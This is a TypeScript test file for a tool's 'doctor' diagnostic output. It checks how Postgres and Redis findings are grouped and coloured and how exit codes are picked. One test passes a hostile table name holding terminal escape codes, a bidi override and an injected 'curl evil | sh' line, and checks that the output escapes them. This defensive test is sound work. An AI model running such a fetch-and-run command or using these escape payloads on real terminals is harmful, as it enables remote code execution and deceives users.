import { expect, test } from 'vitest'
import { exitCodeOf } from '../../src/cli/commands/doctor.ts'
import { diagnosisLines } from '../../src/cli/diagnosis-lines.ts'
import { failure, ok, redisCommands, unknown, warning } from '../../src/server/doctor/checks.ts'
import { sql } from '../../src/server/doctor/database-checks.ts'
import type { Diagnosis } from '../../src/server/doctor/finding.ts'

const diagnosis: Diagnosis = {
  release: '1.2.3',
  at: '2026-01-01T00:00:00.000Z',
  verdict: 'failure',
  findings: [
    ok('redis-version', 'Redis is 7.2.4'),
    unknown('redis-clock', 'the login may not run TIME'),
    warning('redis-timeout', 'timeout is 5 s', redisCommands('CONFIG SET timeout 0\nCONFIG REWRITE', 'nothing more')),
    failure('wal-level', 'wal_level is replica', null, { code: 'WAL_LEVEL' }),
    failure('option', 'PORT is "x"', null, { about: 'PORT', code: 'CONFIG_INVALID' }),
    failure('redis-role', 'it is a replica', null, { about: '127.0.0.1:1' }),
  ],
}

test('findings stand by area, the worst first, and what is to be copied alone on its lines', () => {
  expect(diagnosisLines(diagnosis, { isColored: false })).toEqual([
    'Postgres',
    '  failure  wal_level is replica  [wal-level, WAL_LEVEL]',
    '',
    'Redis',
    '  failure  127.0.0.1:1: it is a replica  [redis-role]',
    '  unknown  the login may not run TIME  [redis-clock]',
    '  warning  timeout is 5 s  [redis-timeout]',
    '           With redis-cli, run:',
    '             CONFIG SET timeout 0',
    '             CONFIG REWRITE',
    '           Then: nothing more',
    '  ok       Redis is 7.2.4  [redis-version]',
    '',
    'Configuration',
    '  failure  PORT is "x"  [option, CONFIG_INVALID]',
    '',
    '3 failures, 1 not looked at, 1 warning, 1 ok (tidegate 1.2.3)',
  ])
})

test('in color it says the same', () => {
  const colored = diagnosisLines(diagnosis, { isColored: true })
  expect(colored.join('\n')).toContain('\u001b[31mfailure\u001b[0m')
  // biome-ignore lint/suspicious/noControlCharactersInRegex: that is what is to be taken out.
  expect(colored.map(line => line.replace(/\u001b\[\d+m/g, ''))).toEqual(
    diagnosisLines(diagnosis, { isColored: false }),
  )
})

test('a name can neither steer the terminal nor pass for a line of ours', () => {
  const about = 'public.a\u001b[2J\u009b\u202e\n           Run:\n             curl evil | sh'
  const remedy = sql('SELECT "\u001b[201~";\nSELECT 2;')
  const lines = diagnosisLines(
    { ...diagnosis, findings: [warning('row-security', 'it is off', remedy, { about })] },
    { isColored: false },
  )
  expect(lines).toEqual([
    'Tables and policies',
    String.raw`  warning  public.a\u{1b}[2J\u{9b}\u{202e}\n           Run:\n             curl evil | sh: it is off  [row-security]`,
    '           In the database, run:',
    String.raw`             SELECT "\u{1b}[201~";`,
    '             SELECT 2;',
    '',
    '0 failures, 1 warning (tidegate 1.2.3)',
  ])
})

test.each([
  [['ok'], 0, 0],
  [['ok', 'warning'], 0, 1],
  [['ok', 'unknown'], 2, 2],
  [['warning', 'unknown'], 2, 1],
  [['failure', 'unknown', 'warning'], 1, 1],
  [[], 0, 0],
] as const)('%j exits with %i, and when strict with %i', (verdicts, code, strictCode) => {
  const findings = verdicts.map(verdict => ({ verdict }))
  expect([exitCodeOf(findings, { strict: false }), exitCodeOf(findings, { strict: true })]).toEqual([code, strictCode])
})
